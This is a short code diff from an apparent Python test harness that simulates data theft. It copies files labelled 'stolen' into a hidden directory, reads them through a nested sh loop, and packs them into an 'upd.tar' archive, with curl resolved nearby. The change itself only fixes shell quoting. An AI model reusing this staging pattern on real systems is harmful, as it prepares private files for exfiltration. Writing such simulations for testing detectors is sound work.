@@ -221,7 +221,7 @@ class Upload:
         stolen = [self.scanned(i) for i in range(STOLEN)]
         cp, tar, curl, cat = (os.path.realpath(shutil.which(n)) for n in ("cp", "tar", "curl", "cat"))
         must("cp", *stolen, self.hidden)
-        must("sh", "-c", 'for f; do sh -c "cat \\"$1\\"; sleep 0.02" sh "$f"; done >/dev/null', "sh", *stolen)
+        must("sh", "-c", 'for f; do sh -c "cat \\"\\$1\\"; sleep 0.02" sh "$f"; done >/dev/null', "sh", *stolen)
         pack = os.path.join(self.hidden, "upd.tar")
         must("tar", "-C", self.scan, "-cf", pack, *[os.path.relpath(f, self.scan) for f in stolen])
         began = time.time()
